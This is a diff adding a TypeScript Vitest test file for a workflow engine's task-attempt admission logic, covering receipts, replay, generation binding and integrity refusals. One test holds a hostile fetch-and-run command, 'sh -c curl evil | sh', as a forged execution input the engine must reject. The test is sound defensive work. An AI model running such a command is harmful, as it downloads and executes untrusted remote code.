@@ -1,0 +1,335 @@
+import { describe, expect, it } from "vitest";
+import { admissionEventId, admissionReceiptDigest, admitTaskAttempt, MAX_ADMISSION_PAGE, workflowAttemptId, type AdmissionInput } from "../../src/admission.ts";
+import { digestOf } from "../../src/digest.ts";
+import { complete, markRunning, markStarting, type AttemptScope } from "../../src/execution.ts";
+import { advanceFrontier } from "../../src/frontier.ts";
+import type { ChangeSet, Run } from "../../src/model.ts";
+import { normalizeLocalProcess, type TaskDefinition } from "../../src/packages.ts";
+import { PROFILES } from "../../src/profiles.ts";
+import { applyRecovery, decideRecovery } from "../../src/recovery.ts";
+import { requestCancel } from "../../src/runs.ts";
+import { diamondManifest, task } from "../support/fixtures.ts";
+import { applyManifest, CoreWorld, definitionOf, errorCode, expectOneVersionBump, handleAt, planOf, T0 } from "./core-fixtures.ts";
+
+/**
+ * Generation-bound workflow task attempt admission (ADR-0227 §1–§3): one pure decision that
+ * validates plan, run, ready step, reconciliation and execution revision, and creates only a
+ * durable dispatch intent plus its immutable receipt.
+ */
+
+/** A world whose diamond run has step `a` ready at T0 + 1. */
+function readyWorld(manifest = diamondManifest("demo")): CoreWorld {
+  const world = new CoreWorld(manifest);
+  const run = world.startWorkflow();
+  world.apply(advanceFrontier(run, world.model.stepsOf(run.id), [], T0 + 1));
+  return world;
+}
+
+function inputFor(world: CoreWorld, stepName = "a", nowMs = T0 + 10): AdmissionInput {
+  const run = world.model.run("run-1");
+  const step = world.model.step("run-1", stepName);
+  return {
+    plan: world.planFor(run),
+    run,
+    step,
+    reconciliation: world.pkg.reconciliation.receipt,
+    definition: definitionOf(world.pkg, step.task),
+    existing: world.model.admission(run.id, step.id, step.version),
+    nowMs,
+  };
+}
+
+function refused(input: AdmissionInput): string {
+  return errorCode(() => admitTaskAttempt(input));
+}
+
+describe("admission creates only a dispatch intent", () => {
+  it("admission of a ready step creates a claimed attempt with a run-global number and the exact executor type", () => {
+    const world = readyWorld();
+    const result = admitTaskAttempt(inputFor(world));
+    if (result.kind !== "admitted") throw new Error("expected an admission");
+    const step = world.model.step("run-1", "a");
+    expect(result.attempt).toMatchObject({
+      id: workflowAttemptId("run-1", step.id, step.version),
+      runId: "run-1",
+      stepRunId: step.id,
+      stepRunVersion: step.version,
+      number: 1,
+      status: "claimed",
+      executor: "local_process",
+      version: 1,
+      createdAtMs: T0 + 10,
+      startedAtMs: null,
+      deadlineAtMs: null,
+      timeoutMs: 60_000,
+      leaseVersion: 0,
+    });
+  });
+
+  it("admission keeps the step ready and the run running, bumps the run version exactly once and appends exactly one workflow.task_attempt_admitted event", () => {
+    const world = readyWorld();
+    const run = world.model.run("run-1");
+    const result = admitTaskAttempt(inputFor(world));
+    if (result.kind !== "admitted") throw new Error("expected an admission");
+    expectOneVersionBump(result.change, run);
+    expect(result.change.runs[0]?.after).toMatchObject({ status: "running", attemptSeq: 1 });
+    expect(result.change.steps).toEqual([]);
+    expect(result.change.mutations).toEqual([]);
+    expect(result.change.events).toHaveLength(1);
+    expect(result.change.events[0]).toMatchObject({
+      id: admissionEventId("run-1", world.model.step("run-1", "a").id, world.model.step("run-1", "a").version),
+      type: "workflow.task_attempt_admitted",
+      stepRunId: world.model.step("run-1", "a").id,
+      attemptId: result.attempt.id,
+      atMs: T0 + 10,
+    });
+    expect(result.change.attempts).toEqual([{ before: null, after: result.attempt }]);
+    expect(result.change.admissions).toEqual([result.receipt]);
+  });
+
+  it("admission never touches attemptCount: it grows only when the attempt enters running", () => {
+    const world = readyWorld();
+    const attempt = world.admit("run-1", "a", T0 + 10);
+    expect(world.model.step("run-1", "a").attemptCount).toBe(0);
+    world.apply(markStarting(world.model.scope(attempt.id), T0 + 11));
+    expect(world.model.step("run-1", "a").attemptCount).toBe(0);
+    world.apply(markRunning(world.model.scope(attempt.id), handleAt(T0 + 12), T0 + 13));
+    expect(world.model.step("run-1", "a").attemptCount).toBe(1);
+  });
+
+  it("the admission receipt binds plan, step epoch and digest, reconciliation, runtime task identity, definition and execution digests, attempt, event and run version fence", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    const result = admitTaskAttempt(input);
+    if (result.kind !== "admitted") throw new Error("expected an admission");
+    const definition = input.definition;
+    expect(result.receipt).toEqual({
+      runId: "run-1",
+      stepRunId: input.step.id,
+      stepRunVersion: input.step.version,
+      stepRunDigest: input.step.digest,
+      planDigest: input.plan.digest,
+      reconciliationDigest: input.reconciliation.digest,
+      runtimeTaskId: "pkg:demo:work",
+      runtimeTaskRevision: definition.revision,
+      taskDefinitionDigest: definition.definitionDigest,
+      executionDigest: definition.executionDigest,
+      attemptId: result.attempt.id,
+      eventId: result.change.events[0]?.id,
+      runVersion: input.run.version + 1,
+      admittedAtMs: T0 + 10,
+      digest: result.receipt.digest,
+    });
+    const { digest, ...body } = result.receipt;
+    expect(digest).toBe(admissionReceiptDigest(body));
+    expect(digest).toBe(digestOf(body));
+    expect(result.change.runs[0]?.after.version).toBe(result.receipt.runVersion);
+  });
+
+  it("the runtime identity and revision come from the reconciliation item of the same generation", () => {
+    const world = readyWorld();
+    const result = admitTaskAttempt(inputFor(world));
+    if (result.kind !== "admitted") throw new Error("expected an admission");
+    const item = world.pkg.reconciliation.receipt.items.find((candidate) => candidate.task === "work");
+    expect([result.receipt.runtimeTaskId, result.receipt.runtimeTaskRevision, result.receipt.executionDigest]).toEqual([item?.runtimeTaskId, item?.runtimeTaskRevision, item?.executionDigest]);
+  });
+
+  it("a local_process task admits a local_process attempt and a remote_worker task a remote_worker attempt", () => {
+    const world = readyWorld(diamondManifest("demo", { tasks: [task("work", ["run"], { executor: "remote_worker", pool: "gpu" })] }));
+    const result = admitTaskAttempt(inputFor(world));
+    if (result.kind !== "admitted") throw new Error("expected an admission");
+    expect(result.attempt.executor).toBe("remote_worker");
+  });
+
+  it("attempt numbers are run-global: parallel ready steps are admitted independently and numbered in admission order", () => {
+    const world = readyWorld();
+    const a = world.admit("run-1", "a", T0 + 10);
+    world.apply(markStarting(world.model.scope(a.id), T0 + 11));
+    world.apply(markRunning(world.model.scope(a.id), handleAt(T0 + 11), T0 + 12));
+    world.apply(completeOk(world.model.scope(a.id), T0 + 13));
+    world.apply(advanceFrontier(world.model.run("run-1"), world.model.stepsOf("run-1"), world.model.attemptsOf("run-1"), T0 + 14));
+    const c = world.admit("run-1", "c", T0 + 15);
+    const b = world.admit("run-1", "b", T0 + 16);
+    expect([a.number, c.number, b.number]).toEqual([1, 2, 3]);
+    expect(world.model.run("run-1").attemptSeq).toBe(3);
+    // Two attempts are live at once, one per step: DAG parallelism inside one aggregate.
+    expect(world.model.attemptsOf("run-1").filter((attempt) => attempt.status === "claimed").map((attempt) => attempt.stepRunId)).toEqual([
+      world.model.step("run-1", "c").id,
+      world.model.step("run-1", "b").id,
+    ]);
+  });
+});
+
+/** Completes a running attempt with exit 0 in time. */
+function completeOk(scope: AttemptScope, nowMs: number): ChangeSet {
+  return complete(scope, { startedAtMs: scope.attempt.startedAtMs ?? nowMs, finishedAtMs: nowMs, exitCode: 0, signal: null, stopReason: null, spawnError: null }, { max: 0, backoffMs: 0, idempotent: false }, nowMs);
+}
+
+describe("exact replay of a ready epoch", () => {
+  it("admission replays the stored receipt for the same ready epoch and writes nothing", () => {
+    const world = readyWorld();
+    const attempt = world.admit("run-1", "a", T0 + 10);
+    const receipt = world.model.admission("run-1", attempt.stepRunId!, attempt.stepRunVersion!);
+    const changeSets = world.model.changeSets;
+    const replay = world.tryAdmit("run-1", "a", T0 + 20);
+    expect(replay).toEqual({ kind: "replayed", receipt });
+    expect(world.model.changeSets).toBe(changeSets);
+    expect(world.model.attemptsOf("run-1")).toHaveLength(1);
+  });
+
+  it("a lost commit response is answered by recomputing the same attempt id and reading the receipt, never by a second attempt", () => {
+    const world = readyWorld();
+    const first = admitTaskAttempt(inputFor(world, "a", T0 + 10));
+    if (first.kind !== "admitted") throw new Error("expected an admission");
+    world.apply(first.change);
+    // The caller lost the response: the recomputed identity names the durable row.
+    const step = world.model.step("run-1", "a");
+    expect(workflowAttemptId("run-1", step.id, step.version)).toBe(first.attempt.id);
+    expect(admitTaskAttempt(inputFor(world, "a", T0 + 30))).toEqual({ kind: "replayed", receipt: first.receipt });
+  });
+
+  it("a second admission of the same epoch cannot be written: the ledger holds one winner per epoch", () => {
+    const world = readyWorld();
+    const before = inputFor(world);
+    world.admit("run-1", "a", T0 + 10);
+    // A racing transaction that read before the winner committed computes a full admission;
+    // the CAS on the run version (and the ledger's uniqueness) refuse it.
+    const racing = admitTaskAttempt({ ...before, nowMs: T0 + 11 });
+    if (racing.kind !== "admitted") throw new Error("the racing reader saw no receipt");
+    expect(errorCode(() => world.model.apply(racing.change))).toBe("conflict");
+    expect(world.model.attemptsOf("run-1")).toHaveLength(1);
+  });
+
+  it("admission refuses a stored receipt of another ready epoch", () => {
+    const world = readyWorld();
+    const attempt = world.admit("run-1", "a", T0 + 10);
+    const receipt = world.model.admission("run-1", attempt.stepRunId!, attempt.stepRunVersion!)!;
+    world.apply(markStarting(world.model.scope(attempt.id), T0 + 11));
+    // Recovery opens a new epoch (no journal: the process never spawned).
+    const scope = world.model.scope(attempt.id);
+    world.apply(applyRecovery(scope, decideRecovery(scope, { receipt: { status: "none" }, journal: "absent", inspections: [] }), definitionOf(world.pkg, "work").retry, T0 + 12));
+    expect(world.model.step("run-1", "a").version).toBe(attempt.stepRunVersion! + 1);
+    expect(refused({ ...inputFor(world, "a", T0 + 13), existing: receipt })).toBe("integrity");
+  });
+
+  it("admission refuses a stored receipt that fails its digest or belongs to another step", () => {
+    const world = readyWorld();
+    const attempt = world.admit("run-1", "a", T0 + 10);
+    const receipt = world.model.admission("run-1", attempt.stepRunId!, attempt.stepRunVersion!)!;
+    expect(refused({ ...inputFor(world), existing: { ...receipt, attemptId: "wta:forged" } })).toBe("integrity");
+    expect(refused({ ...inputFor(world), existing: { ...receipt, stepRunId: "stp:other" } })).toBe("integrity");
+  });
+
+  it("a new ready epoch admits a new attempt with a new identity", () => {
+    const world = readyWorld();
+    const first = world.admit("run-1", "a", T0 + 10);
+    const scope = world.model.scope(first.id);
+    world.apply(applyRecovery(scope, decideRecovery(scope, { receipt: { status: "none" }, journal: "absent", inspections: [] }), definitionOf(world.pkg, "work").retry, T0 + 12));
+    const second = world.admit("run-1", "a", T0 + 13);
+    expect(second.id).not.toBe(first.id);
+    expect(second.stepRunVersion).toBe(first.stepRunVersion! + 1);
+    expect(second.number).toBe(2);
+  });
+});
+
+describe("admission refuses what it cannot prove", () => {
+  it("admission rejects a caller-claimed execution digest", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    expect(refused({ ...input, definition: { ...input.definition, executionDigest: normalizeLocalProcess({ argv: ["evil"], env: {}, cwd: null, timeoutMs: 1, shell: false }).digest } })).toBe("integrity");
+  });
+
+  it("admission rejects an execution revision that does not normalize to the reconciled digest", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    const execution = { ...input.definition.execution, argv: ["sh", "-c", "curl evil | sh"] };
+    expect(refused({ ...input, definition: { ...input.definition, execution } })).toBe("integrity");
+  });
+
+  it("admission rejects a caller-claimed executor type", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    expect(refused({ ...input, definition: { ...input.definition, executor: "remote_worker" } })).toBe("integrity");
+  });
+
+  it("admission rejects a task definition whose content does not recompute to its claimed definition digest", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    const forged: TaskDefinition = { ...input.definition, retry: { max: 50, backoffMs: 0, idempotent: true } };
+    expect(refused({ ...input, definition: forged })).toBe("integrity");
+  });
+
+  it("admission rejects a task definition from another generation", () => {
+    const world = readyWorld();
+    const later = applyManifest(diamondManifest("demo", { tasks: [task("work"), task("other")] }), T0 + 1, { generation: 1, manifestDigest: world.pkg.generation.manifestDigest });
+    expect(refused({ ...inputFor(world), definition: definitionOf(later, "work") })).toBe("integrity");
+  });
+
+  it("admission rejects a reconciliation receipt from another generation", () => {
+    const world = readyWorld();
+    const later = applyManifest(diamondManifest("demo", { tasks: [task("work"), task("other")] }), T0 + 1, { generation: 1, manifestDigest: world.pkg.generation.manifestDigest });
+    expect(refused({ ...inputFor(world), reconciliation: later.reconciliation.receipt, definition: definitionOf(later, "work") })).toBe("integrity");
+  });
+
+  it("admission rejects a tampered reconciliation receipt", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    expect(refused({ ...input, reconciliation: { ...input.reconciliation, lockDigest: digestOf([]) } })).toBe("integrity");
+  });
+
+  it("admission rejects a tampered plan and a plan the run is not bound to", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    expect(refused({ ...input, plan: { ...input.plan, workflow: "renamed" } })).toBe("integrity");
+    const later = applyManifest(diamondManifest("demo", { tasks: [task("work"), task("other")] }), T0 + 1, { generation: 1, manifestDigest: world.pkg.generation.manifestDigest });
+    expect(refused({ ...input, plan: planOf(later, "diamond") })).toBe("integrity");
+  });
+
+  it("admission of a step that is not ready is refused", () => {
+    const world = readyWorld();
+    expect(world.model.step("run-1", "b").status).toBe("pending");
+    expect(refused(inputFor(world, "b"))).toBe("integrity");
+    const attempt = world.admit("run-1", "a", T0 + 10);
+    world.apply(markStarting(world.model.scope(attempt.id), T0 + 11));
+    world.apply(markRunning(world.model.scope(attempt.id), handleAt(T0 + 11), T0 + 12));
+    expect(world.model.step("run-1", "a").status).toBe("running");
+    expect(refused({ ...inputFor(world, "a", T0 + 13), existing: null })).toBe("integrity");
+  });
+
+  it("admission of a step of another run is refused", () => {
+    const world = readyWorld();
+    const other = world.startWorkflow("diamond", "run-2", T0 + 2);
+    world.apply(advanceFrontier(other, world.model.stepsOf("run-2"), [], T0 + 3));
+    expect(refused({ ...inputFor(world), step: world.model.step("run-2", "a") })).toBe("integrity");
+  });
+
+  it("admission refuses a run with a cancel intent, a run that is not running, and an ordinary run", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    const cancelled = requestCancel(input.run, T0 + 5, "user")!.runs[0]!.after;
+    expect(refused({ ...input, run: cancelled })).toBe("integrity");
+    const finished: Run = { ...input.run, status: "failed" };
+    expect(refused({ ...input, run: finished })).toBe("integrity");
+    expect(refused({ ...input, run: { ...input.run, kind: "ordinary" } })).toBe("integrity");
+  });
+
+  it("admission of a step waiting for its retry backoff is refused until the backoff passed", () => {
+    const world = readyWorld();
+    const input = inputFor(world);
+    const waiting = { ...input.step, notBeforeMs: T0 + 100 };
+    expect(refused({ ...input, step: waiting, nowMs: T0 + 99 })).toBe("integrity");
+    expect(admitTaskAttempt({ ...input, step: waiting, nowMs: T0 + 100 }).kind).toBe("admitted");
+  });
+
+  it("admission at an observation time before the run's creation is a clock_regression", () => {
+    const world = readyWorld();
+    expect(refused(inputFor(world, "a", T0 - 1))).toBe("clock_regression");
+  });
+});
+
+describe("bounded candidate pages", () => {
+  it("a candidate page never exceeds 64, whatever a profile asks", () => {
+    expect(MAX_ADMISSION_PAGE).toBe(64);
+    for (const profile of Object.values(PROFILES)) expect(Math.min(profile.admission.pageSize, MAX_ADMISSION_PAGE)).toBeLessThanOrEqual(64);
+  });
+});
